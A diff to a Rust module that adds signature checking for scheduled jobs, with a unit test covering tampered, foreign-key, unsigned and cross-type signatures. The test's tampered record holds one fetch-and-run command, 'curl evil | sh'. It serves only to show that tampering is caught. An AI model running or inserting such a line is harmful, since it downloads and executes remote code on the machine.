@@ -5,8 +5,8 @@
 //! plain functions, no I/O.
 
 use super::files::{Pin, TrustedKeys};
-use super::keys::KeyId;
-use super::seal::{announcement_parts, answer_parts, command_parts, Seal, SealHeaderError, SessionId};
+use super::keys::{KeyId, PublicKey};
+use super::seal::{announcement_parts, answer_parts, command_parts, schedule_parts, Seal, SealHeaderError, SessionId};
 use super::session::Session;
 use crate::time::short;
 use crate::wire::envelope::{Envelope, InReplyTo, Reply};
@@ -272,6 +272,21 @@ pub fn check_announcement(
     check_pinned(pin, seal, &announcement_parts(body))
 }
 
+/// The service's check of a schedule before one of its slots runs: `seal` is a signature by
+/// `key` (the service's own) over `record`, exactly as it was signed. A schedule changed in the
+/// journal by anyone without the key, or signed by another key, does not pass.
+pub fn check_schedule(
+    key: &PublicKey,
+    seal: Result<Option<Seal>, SealHeaderError>,
+    record: &[u8],
+) -> Result<KeyId, Forged> {
+    match check_pinned(&Pin::Keys(vec![*key]), seal, &schedule_parts(record))? {
+        Believed::Key(key) => Ok(key),
+        // Only a legacy pin believes unsigned messages, and this pin is a key.
+        Believed::Legacy => Err(Forged::Unsigned),
+    }
+}
+
 /// Whether `seal` is by a key of `pin` over `message`, the concatenation of its parts (never made).
 fn check_pinned(pin: &Pin, seal: Result<Option<Seal>, SealHeaderError>, message: &[&[u8]]) -> Result<Believed, Forged> {
     let keys = match pin {
@@ -301,6 +316,27 @@ mod tests {
     use crate::wire::error::ErrorReply;
     use crate::wire::messages::{Kind, ScriptSpec, StartScriptV2};
     use proptest::prelude::*;
+
+    #[test]
+    fn a_schedules_signature_covers_its_whole_record_and_is_no_commands() {
+        let (service, other) = (key(7), key(8));
+        let record = br#"{"name":"rotate-logs","cron":"0 2 * * *","script":"logrotate"}"#;
+        let seal = service.seal_schedule(record);
+        assert_eq!(check_schedule(service.public(), Ok(Some(seal.clone())), record).unwrap(), service.id());
+        let changed = br#"{"name":"rotate-logs","cron":"0 2 * * *","script":"curl evil | sh"}"#;
+        assert!(matches!(
+            check_schedule(service.public(), Ok(Some(seal.clone())), changed),
+            Err(Forged::BadSignature(_))
+        ));
+        let by_other = other.seal_schedule(record);
+        assert!(matches!(check_schedule(service.public(), Ok(Some(by_other)), record), Err(Forged::UnpinnedKey(_))));
+        assert!(matches!(check_schedule(service.public(), Ok(None), record), Err(Forged::Unsigned)));
+        // A command's signature over the same bytes is not a schedule's, nor the reverse.
+        let command = service.seal_command(record);
+        assert!(check_schedule(service.public(), Ok(Some(command)), record).is_err());
+        let trusted = TrustedKeys::of([*service.public()]);
+        assert!(check_command_seal(&trusted, false, Ok(Some(seal)), record, None).is_err());
+    }
 
     fn header(target: &str, issued_at: u64, not_after: Option<u64>) -> Envelope<()> {
         Envelope::new(Kind::StartScriptV2, target, issued_at, not_after, (), &mut fresh()).unwrap()
